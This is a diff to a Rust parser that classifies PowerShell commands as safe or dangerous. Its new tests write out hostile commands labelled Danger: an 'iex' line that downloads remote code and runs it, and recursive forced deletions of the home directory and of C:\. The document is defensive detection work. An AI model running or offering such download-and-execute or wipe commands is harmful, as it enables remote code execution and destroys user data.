@@ -6,6 +6,11 @@ use super::tree;
 use std::ops::Range;
 use tree_sitter::Node;
 
+/// The target of a redirection; `$null` is what `/dev/null` is elsewhere.
+fn thrown_away(target: Word) -> Word {
+    if target.raw.eq_ignore_ascii_case("$null") { Word::literal("/dev/null", target.span) } else { target }
+}
+
 /// Parses and walks a text.
 pub(super) fn walk(builder: &mut Builder, source: &Source<'_>, cx: &Cx) {
     let masked = mask(source.text);
@@ -20,7 +25,8 @@ pub(super) fn walk(builder: &mut Builder, source: &Source<'_>, cx: &Cx) {
 }
 
 /// Blanks out, byte for byte, good PowerShell that the grammar does not know: `1MB`, `?` for `Where-Object`,
-/// `--option=value` of Unix tools, a method on a bracket that touches a command (`iex(...).Content`).
+/// `--option=value` of Unix tools, a method on a bracket that touches a command (`iex(...).Content`) or is called in its
+/// argument (`iex (...).Load('x')`), a path that begins with a variable (`$HOME\src`), `default` on the line of a `switch`.
 fn mask(text: &str) -> String {
     let mut bytes = text.as_bytes().to_vec();
     let mut quote = None;
@@ -39,6 +45,13 @@ fn mask(text: &str) -> String {
                 let number = digits == 0 || matches!(bytes[digits - 1], b' ' | b'(' | b'=' | b'/' | b'*');
                 if number {
                     bytes[i..i + 2].copy_from_slice(b"00");
+                }
+            }
+            (b'$', None) if before == b' ' && begins_a_path(&bytes[i..]) && is_argument(&bytes[..i]) => bytes[i] = b'_',
+            (b'.', None) if before == b')' && after.is_ascii_alphabetic() => blank_call(&mut bytes, i),
+            (b'd' | b'D', None) if before == b' ' && bytes[i..].to_ascii_lowercase().starts_with(b"default ") => {
+                if bytes[..i].trim_ascii_end().ends_with(b"}") {
+                    bytes[i - 1] = b';';
                 }
             }
             (b'=', None) => {
@@ -60,6 +73,37 @@ fn mask(text: &str) -> String {
         }
     }
     String::from_utf8(bytes).unwrap_or_else(|_| text.to_owned())
+}
+
+/// `$HOME\src`, `$env:USERPROFILE\Documents`.
+fn begins_a_path(text: &[u8]) -> bool {
+    let name = text[1..].iter().position(|b| !(b.is_ascii_alphanumeric() || matches!(b, b'_' | b':')));
+    name.is_some_and(|end| end > 0 && text[1 + end] == b'\\')
+}
+
+/// True if what stands before is a command, whose argument comes next.
+fn is_argument(before: &[u8]) -> bool {
+    before
+        .trim_ascii_end()
+        .last()
+        .is_some_and(|b| b.is_ascii_alphanumeric() || matches!(b, b'"' | b'\'' | b'*' | b'\\'))
+}
+
+/// A call of a method, from its dot on, that only takes text and stands in the argument of `iex`: one long name.
+fn blank_call(bytes: &mut [u8], dot: usize) {
+    let statement =
+        bytes[..dot].iter().rposition(|b| matches!(b, b';' | b'|' | b'{' | b'\n' | b'=')).map_or(0, |p| p + 1);
+    let command = bytes[statement..dot].trim_ascii_start().to_ascii_lowercase();
+    let evaluates = [&b"iex ("[..], b"invoke-expression ("].iter().any(|start| command.starts_with(start));
+    let open = bytes[dot..].iter().position(|b| *b == b'(').map(|p| dot + p);
+    let Some(open) = open.filter(|open| evaluates && bytes[dot + 1..*open].iter().all(u8::is_ascii_alphanumeric))
+    else {
+        return;
+    };
+    let close = bytes[open + 1..].iter().position(|b| matches!(b, b'(' | b')' | b'{' | b'`')).map(|p| open + 1 + p);
+    if let Some(close) = close.filter(|close| bytes[*close] == b')') {
+        bytes[open..=close].fill(b'_');
+    }
 }
 
 struct Walker<'b, 's, 't> {
@@ -200,6 +244,11 @@ impl Walker<'_, '_, '_> {
             let range = parts[0].1.byte_range();
             words[0] = self.source.word(range.start..range.end + 1);
         }
+        // `1..3` begins a pipeline with numbers, and is no program.
+        let number = |end: &str| !end.is_empty() && end.bytes().all(|b| b.is_ascii_digit());
+        if words.len() == 1 && words[0].raw.split_once("..").is_some_and(|(from, to)| number(from) && number(to)) {
+            return;
+        }
         let index = self.builder.script.commands.len();
         let name = words[0].text.clone();
         let placed = self.builder.invoke(self.source, words, Vec::new(), cx);
@@ -253,7 +302,7 @@ impl Walker<'_, '_, '_> {
             }
             None => (word.raw[..at].to_owned(), target),
         };
-        Some(Redirect { operator, target, body: None })
+        Some(Redirect { operator, target: thrown_away(target), body: None })
     }
 
     fn redirect(&mut self, node: Node<'_>, cx: &Cx) -> Redirect {
@@ -273,7 +322,7 @@ impl Walker<'_, '_, '_> {
             self.builder.construct(Construct::DevNull, self.source, range);
         }
         self.children(target, &cx.deeper());
-        Redirect { operator, target: word, body: None }
+        Redirect { operator, target: thrown_away(word), body: None }
     }
 
     fn assignment(&mut self, node: Node<'_>, cx: &Cx) {
@@ -289,5 +338,30 @@ impl Walker<'_, '_, '_> {
         let commands = before..self.builder.script.commands.len();
         self.builder.construct(Construct::Assignment, self.source, node.byte_range());
         self.builder.script.assignments.push(Assignment { name, value: word, before, commands });
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::shell::{Dialect, Level, assess, parse};
+
+    #[test]
+    fn good_powershell_that_the_grammar_does_not_know() {
+        for (text, level) in [
+            (r"cd $HOME\src", Level::Safe),
+            (r"Get-ChildItem $env:USERPROFILE\Documents", Level::Safe),
+            ("Get-Process 2>$null", Level::Safe),
+            ("Get-Process > $NULL", Level::Safe),
+            ("1..3 | % { $_ }", Level::Safe),
+            ("switch ($x) { 1 { 'a' } default { 'b' } }", Level::Safe),
+            ("iex (New-Object Net.WebClient).DownloadString('https://x.example')", Level::Danger),
+            ("iex ((New-Object Net.WebClient).DownloadString('https://x.example'))", Level::Danger),
+            (r"Remove-Item $HOME\* -Recurse -Force", Level::Danger),
+            ("1..3 | % { Remove-Item C:\\ -Recurse }", Level::Danger),
+        ] {
+            let script = parse(text, Dialect::PowerShell);
+            assert!(script.errors.is_empty(), "{text}: {:?}", script.errors);
+            assert_eq!(assess(&script).level, level, "{text}: {:?}", assess(&script));
+        }
     }
 }
